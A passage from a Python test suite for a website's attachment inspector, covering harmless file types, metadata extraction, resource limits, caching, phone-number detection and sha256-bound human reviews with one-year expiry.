    "pdf-form": ("a.pdf", lambda: a.pdf(change=a.annotated(Subtype=a.name("/Widget"), V=a.words("填写的内容"))), "填写的内容"),
    "pdf-that-opens-on-a-page": ("a.pdf", lambda: a.pdf(change=a.at_start(S=a.name("/GoTo"), D=NumberObject(0))), "Plain text"),
    "pdf-with-need-of-looks": ("a.pdf", lambda: a.pdf(change=a.in_root("/AcroForm", FORM)), "Plain text"),
    "csv": ("a.csv", lambda: "年度,增减\n2024,-5.3%\n2025,+8\n".encode("utf-8-sig"), "年度,增减"),
    "csv-of-marks": ("a.csv", lambda: "甲, -5.3%, ＋,见表1；表2,a;b\n".encode(), "见表1"),
    "csv-gbk": ("a.csv", lambda: "年度,件数\n".encode("gbk"), "年度,件数"),
    "txt-utf-16": ("a.txt", lambda: "文字".encode("utf-16"), "文字"),
    "txt-of-nothing": ("a.txt", lambda: b"", ""),
    "zip": ("a.zip", lambda: a.zipped({"材料/甲.docx": a.docx(), "乙.pdf": a.pdf()}), "材料/甲.docx\n正文。"),
    "png": ("a.png", a.png, ""),
    "jpeg": ("a.jpeg", lambda: a.jpeg((0xE1, b"Exif\0\0" + a.exif(artist="林某"))), ""),
    "gif": ("a.gif", lambda: a.gif(b"made by hand"), ""),
    "webp": ("a.webp", lambda: a.webp((b"VP8 ", VP8)), ""),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_attachment_is_taken_with_its_text(inspector: Inspector, tmp_path: Path, name: str) -> None:
    file, make, text = HARMLESS[name]
    assert told(inspector, tmp_path, file, make()) == []
    with (tmp_path / file).open("rb") as opened:
        assert text in look_into(file, opened).text


def metadata(folder: Path, file: str, raw: bytes) -> dict[str, str]:
    (folder / file).write_bytes(raw)
    with (folder / file).open("rb") as opened:
        return dict(look_into(file, opened).metadata)


def test_properties_tell_who_made_a_file(tmp_path: Path) -> None:
    core = "<p><creator>林某</creator><lastModifiedBy>何某</lastModifiedBy></p>"
    office = {"docProps/core.xml": core, "docProps/app.xml": "<p><Company>临澜市教育局</Company></p>"}
    assert metadata(tmp_path, "a.docx", a.docx_with(office)) == {"creator": "林某", "lastModifiedBy": "何某", "Company": "临澜市教育局"}
    assert metadata(tmp_path, "a.pdf", a.pdf(metadata={"Author": "林某"}))["Author"] == "林某"
    assert metadata(tmp_path, "a.jpg", a.jpeg((0xE1, b"Exif\0\0" + a.exif(artist="林某")))) == {"Artist": "林某"}


def test_links_are_kept_for_the_link_policy(tmp_path: Path) -> None:
    (tmp_path / "a.docx").write_bytes(a.docx_with(a.relation("hyperlink", "https://www.linlan.example/")))
    with (tmp_path / "a.docx").open("rb") as opened:
        assert look_into("a.docx", opened).links == ("https://www.linlan.example/",)


def test_text_is_bounded(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes("长".encode() * 2 * MAX_TEXT)
    with (tmp_path / "a.txt").open("rb") as opened:
        assert len(look_into("a.txt", opened).text) == MAX_TEXT


# the process


def peak_of(process: int) -> int:
    """The most address space that a process has had, in bytes (Linux proc(5): VmPeak)."""
    status = Path(f"/proc/{process}/status").read_text()
    return int(status.partition("VmPeak:")[2].split()[0]) * 1024


def test_no_file_takes_more_than_its_time_and_memory(tmp_path: Path) -> None:
    """The kernel holds the limits; the test sees that they are set, and that the slowest cases end by them."""
    one = Inspector()
    try:
        for name in ("pdf-bomb", "bomb", "much-xml", "pages-in-a-circle"):
            told(one, tmp_path, CASES[name].file, CASES[name].make())
            child_process = one._child
            assert child_process
            assert peak_of(child_process.pid) <= child.MEMORY
    finally:
        one.close()


def test_a_file_that_kills_the_process_leaves_the_others_be(inspector: Inspector, tmp_path: Path) -> None:
    assert told(inspector, tmp_path, "a.pdf", (raw := a.slow_pdf())) == [sentence("unread", "a.pdf", "太复杂，检查超时", raw)]
    assert told(inspector, tmp_path, "b.pdf", a.pdf()) == []


def test_a_process_that_dies_between_two_files_is_told_once_and_replaced(tmp_path: Path) -> None:
    one = Inspector()
    try:
        assert told(one, tmp_path, "a.pdf", a.pdf()) == []
        assert one._child
        one._child.kill()
        one._child.wait()
        assert told(one, tmp_path, "b.pdf", (raw := a.pdf())) == [sentence("unread", "b.pdf", "太复杂，检查超时", raw)]
        assert told(one, tmp_path, "c.pdf", a.pdf()) == []
    finally:
        one.close()


# the cache


class Counting(Inspector):
    """Counts the files that are really looked into."""

    looked = 0

    def _look(self, *given: object) -> object:  # type: ignore[override]  # only counted
        self.looked += 1
        return super()._look(*given)  # type: ignore[arg-type]


def test_a_file_that_the_cache_knows_is_not_looked_into_again(tmp_path: Path) -> None:
    raw = a.docx("<w:p><w:ins/></w:p>")
    found = []
    for _ in range(2):
        cache = Cache(tmp_path / "cache", "1")
        one = Counting(cache)
        found.append((one.looked, told(one, tmp_path, "a.docx", raw), one.looked))
        one.close()
        cache.save()
    assert [looked for _, _, looked in found] == [1, 0]
    assert found[0][1] == found[1][1] == [sentence("leftover", "a.docx", "修订痕迹（word/document.xml）", raw)]


def test_another_version_of_the_code_looks_again(tmp_path: Path) -> None:
    for version in "12":
        cache = Cache(tmp_path / "cache", version)
        one = Counting(cache)
        told(one, tmp_path, "a.docx", a.docx())
        assert one.looked == 1
        one.close()
        cache.save()


def test_the_same_bytes_under_another_type_are_another_file(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache", "1")
    one = Counting(cache)
    told(one, tmp_path, "a.docx", a.docx())
    told(one, tmp_path, "b.docx", a.docx())
    assert one.looked == 1
    told(one, tmp_path, "a.zip", a.docx())
    assert one.looked == 2
    one.close()


def test_what_ran_out_of_time_is_tried_again(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache", "1")
    one = Counting(cache)
    for looked in (1, 2):
        told(one, tmp_path, "a.pdf", a.slow_pdf())
        assert one.looked == looked
    one.close()


def test_the_text_is_there_for_the_search_index(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache", "1")
    one = Inspector(cache)
    told(one, tmp_path, "a.docx", a.docx())
    sha256 = file_facts(tmp_path / "a.docx").sha256
    known = one.known("a.docx", sha256)
    assert known
    assert known.text == "正文。\n"
    assert one.known("a.docx", "0" * 64) is None
    one.close()


# personal data


def find_numbers(text: str) -> Iterator[Finding]:
    """The gate as builds have it, for a site without offices."""
    return find(text, ())


@pytest.mark.parametrize(
    ("file", "make"),
    [
        ("a.docx", wordy("<w:p><w:r><w:t>1380013</w:t></w:r><w:r><w:t>8000</w:t></w:r></w:p>")),
        ("a.docx", lambda: a.docx(**{"docProps/core.xml": "<p><creator>13800138000</creator></p>"})),
        ("a.xlsx", lambda: a.xlsx("<row><c><v>1.3800138E10</v></c></row>")),
        ("a.pdf", lambda: a.pdf("13800138000")),
        ("a.pdf", lambda: a.pdf(metadata={"Subject": "13800138000"})),
        ("a.csv", lambda: "电话\n13800138000\n".encode("gbk")),
        ("a.zip", lambda: a.zipped({"a.txt": "13800138000"})),
        ("a.odt", lambda: a.odt("<text:p>13800138000</text:p>")),
    ],
)
def test_text_and_properties_go_through_the_gate(tmp_path: Path, file: str, make: Callable[[], bytes]) -> None:
    one = Inspector(find_personal=find_numbers)
    assert told(one, tmp_path, file, make()) == [sentence("personal", file, "联系方式（138******00）")]
    one.close()


def test_the_gate_is_asked_anew_when_its_settings_change(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache", "1")
    for gate, key, count in ((find_numbers, "a", 1), (lambda text: (), "b", 0), (find_numbers, "a", 1)):
        one = Inspector(cache, gate, key)
        assert len(told(one, tmp_path, "a.txt", b"13800138000")) == count
        one.close()


# review


def reviewed(raw: bytes, date: str = "2025-06-01") -> dict[str, object]:
    return {"reviewed": {"by": "林某", "reason": "扫描件，已逐页看过", "date": date, "sha256": sha256(raw).hexdigest()}}


@pytest.mark.parametrize("name", ["password", "wps", "scan", "comments", "formula", "no-encoding"])
def test_a_named_reviewer_allows_what_no_program_can_judge(inspector: Inspector, tmp_path: Path, name: str) -> None:
    raw = CASES[name].make()
    assert told(inspector, tmp_path, CASES[name].file, raw, **reviewed(raw)) == []


@pytest.mark.parametrize(
    "name", ["macros", "bomb", "zip-behind-png", "template-from-outside", "place-in-jpeg", "file-in-pdf", "html-in-zip"]
)
def test_no_reviewer_allows_what_has_to_be_taken_out(inspector: Inspector, tmp_path: Path, name: str) -> None:
    one = CASES[name]
    raw = one.make()
    expected = [sentence(key, one.file, detail, raw) for key, detail in one.told]
    assert told(inspector, tmp_path, one.file, raw, **reviewed(raw)) == expected


def test_a_review_holds_for_the_very_file_that_was_seen(inspector: Inspector, tmp_path: Path) -> None:
    seen, now = a.ole(), a.ole() + bytes(512)
    digest = sha256(now).hexdigest()
    assert told(inspector, tmp_path, "a.doc", now, **reviewed(seen)) == [
        "“a.doc”不是 林某 于 2025-06-01 审核的那个文件（校验值不符），审核不再有效。请重新看过，改写 reviewed 的 date 和 "
        f"sha256: {digest}。",
        sentence("unread", "a.doc", "DOC 是旧格式，请另存为 DOCX、XLSX、PPTX 或 PDF", now),
    ]


def test_a_review_that_names_no_file_is_told_what_to_write(inspector: Inspector, tmp_path: Path) -> None:
    unbound = {"reviewed": {"by": "林某", "reason": "已看过", "date": "2025-06-01"}}
    digest = sha256(a.ole()).hexdigest()
    assert told(inspector, tmp_path, "a.doc", a.ole(), **unbound) == [
        f"“a.doc”的审核没有写明看的是哪一个文件，以后换了文件也看不出来。看的就是现在这个文件的，请在 reviewed 里加上 sha256: {digest}。",
        sentence("unread", "a.doc", "DOC 是旧格式，请另存为 DOCX、XLSX、PPTX 或 PDF", a.ole()),
    ]


def test_a_digest_may_be_written_in_capitals(inspector: Inspector, tmp_path: Path) -> None:
    bound = reviewed(a.ole())
    bound["reviewed"]["sha256"] = sha256(a.ole()).hexdigest().upper()  # type: ignore[index]  # a plain mapping
    assert told(inspector, tmp_path, "a.doc", a.ole(), **bound) == []


def test_a_review_of_what_needs_none_may_stay(inspector: Inspector, tmp_path: Path) -> None:
    assert told(inspector, tmp_path, "a.txt", "文字".encode(), **reviewed(b"another")) == []


def test_a_picture_of_the_text_is_reviewed_among_the_attachments(inspector: Inspector, tmp_path: Path) -> None:
    raw = CASES["video-behind-jpeg"].make()
    (tmp_path / "b.jpg").write_bytes(raw)
    front = {"attachments": [{"file": "b.jpg", **reviewed(raw)}]}
    made = record(facts=lambda name: file_facts(tmp_path / name, inspector), body="甲\n\n![现场](b.jpg)\n", **front)
    assert made.problems == ()


def site_problems(folder: Path, front: dict[str, object]) -> list[str]:
    content = folder / "content" / "notices" / "2024"
    content.mkdir(parents=True)
    (content / "a.doc").write_bytes(a.ole())
    (content / "x.md").write_text(typed("notices/2024/x", {**front, "body": "附件是原件，全文如下。" * 10}), encoding="utf-8")
    place = Place(folder / "content", folder / "docs", "站", "https://www.linlan.example/")
    return [str(problem) for problem in prepare(place, settings()).problems]


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        ("2024-12-31", "“a.doc”由 林某 于 2024-12-31 审核放行，到 2025-12-31 已满一年。请重新看过，改写 reviewed 的日期。"),
        ("2025-01-01", "“a.doc”由 林某 于 2025-01-01 审核放行，到 2026-01-01 已满一年。请重新看过，改写 reviewed 的日期。"),
        ("2025-01-02", "“a.doc”由 林某 于 2025-01-02 审核放行，2026-01-02 满一年。请在那以前重新看过，改写 reviewed 的日期。"),
        ("2025-06-01", ""),
        ("2026-01-01", ""),
        ("2026-01-02", "“a.doc”的审核日期是 2026-01-02，还没有到。请写实际审核的日期。"),
    ],
)
def test_a_review_holds_for_a_year(tmp_path: Path, date: str, expected: str) -> None:
    front: dict[str, object] = {"attachments": [{"file": "a.doc", **reviewed(a.ole(), date)}]}
    assert site_problems(tmp_path, front) == [f"notices/2024/x.md:2  {expected}"] * bool(expected)


def test_a_review_names_who_why_and_when(tmp_path: Path) -> None:
    front = {"附件": [{"文件": "a.doc", "人工审核": {"审核人": "林某"}}]}
    told_of = [line.partition("  ")[2] for line in site_problems(tmp_path, front) if line.startswith("notices/2024/x.md")]
    assert told_of == [
        "attachments.0.reviewed 里缺少 date（发布日期）。请在 attachments.0.reviewed 下面写 date: 2024-03-05。",
        "attachments.0.reviewed 里缺少 reason（原因）。请在 attachments.0.reviewed 下面写 reason: 内容有误。",
    ]


def test_an_attachment_that_nobody_is_shown_is_not_asked_about(inspector: Inspector, tmp_path: Path) -> None:
    (tmp_path / "a.doc").write_bytes(a.ole())
    front = {"attachments": ["a.doc"], "withdrawn": {"date": "2024-04-01", "reason": "内容有误"}}
    assert record(facts=lambda name: file_facts(tmp_path / name, inspector), **front).problems == ()


def test_a_picture_in_the_text_is_looked_into(inspector: Inspector, tmp_path: Path) -> None:
    (tmp_path / "a.jpg").write_bytes(CASES["place-in-jpeg"].make())
    made = record(facts=lambda name: file_facts(tmp_path / name, inspector), body="甲\n\n![现场](a.jpg)\n")
    assert [str(problem) for problem in made.problems] == ["notices/2024/x.md:8  " + sentence("personal", "a.jpg", "拍摄地点（经纬度）")]


# the whole


@pytest.mark.soak
def test_a_build_tells_of_every_hostile_attachment_and_ends(minimal: BuiltSite, tmp_path: Path) -> None:
    front = {f"notices/2024/{name}": {"attachments": [f"{name}-{one.file}"]} for name, one in CASES.items()}
    config = lay_site(tmp_path / "site", front)
    raw = {name: one.make() for name, one in CASES.items()}
    for name, one in CASES.items():
        (config.parent / "content/notices/2024" / f"{name}-{one.file}").write_bytes(raw[name])
    done = build(config, tmp_path / "out")
    assert done.returncode == 1
    assert "Traceback" not in said(done)
    lines = said(done).splitlines()
    missing = [
        (name, key)
        for name, one in CASES.items()
        for key, detail in one.told
        if not any(
            f"notices/2024/{name}.md:2  {sentence(key, f'{name}-{one.file}', detail, raw[name])} [attachment-{key}]" in line
            for line in lines
        )
    ]
    assert missing == []
    assert not (tmp_path / "out").exists()


def words_of_dangers() -> set[str]:
    """Every `what` that the guard tells."""
    found = set()
    for module in (Path(child.__file__).parent).glob("*.py"):
        for node in ast.walk(ast.parse(module.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", "")) in ("tell", "Stop"):
                found |= {arg.value for arg in node.args[1:2] if isinstance(arg, ast.Constant)}
    return found


def test_every_danger_has_its_words() -> None:
    assert [what for what in words_of_dangers() if not messages.has(f"danger.{what}")] == []
    assert len(words_of_dangers()) > 30


def test_every_kind_of_danger_is_a_problem() -> None:
    assert {key for one in CASES.values() for key, _ in one.told} == set(SENTENCES)
